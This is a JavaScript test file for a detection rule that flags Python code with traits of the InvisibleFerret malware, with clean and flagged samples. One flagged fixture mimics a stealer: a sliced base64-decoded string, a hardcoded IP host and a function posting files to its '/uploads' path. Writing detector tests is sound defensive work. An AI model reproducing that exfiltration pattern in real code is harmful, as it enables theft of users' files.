import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-invisibleferret-traits.js';

ruleTest(rule, {
  clean: [
    { name: 'flask app with an uploads route', file: 'app.py', code: `from flask import Flask\napp = Flask(__name__)\n@app.route("/uploads")\ndef up():\n    return "ok"\n` },
    { name: 'course server on 1245 only', file: 'server.py', code: `app.run(host="127.0.0.1", port=1245)\nURL = "http://localhost:1245/api"\n` },
  ],
  flagged: [
    {
      name: 'loader + stealer traits',
      file: 'main.py',
      code: `import base64\nsType = "Ab3xF0zLcHJpbnQoMSk="\nct = base64.b64decode(sType[8:])\nHOST = "http://95.164.17.24:1224"\ndef ssh_upload(args):\n    requests.post(HOST + "/uploads", files={"multi_file": f})\n`,
      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /sliced string.*\/uploads/ }],
    },
    {
      name: 'two traits: medium',
      file: 'b.py',
      code: `k = "/keys"\nboundary = "---------------------------99614912995"\n`,
      findings: [{ line: 1, confidence: 'medium', severity: 'high' }],
    },
  ],
});
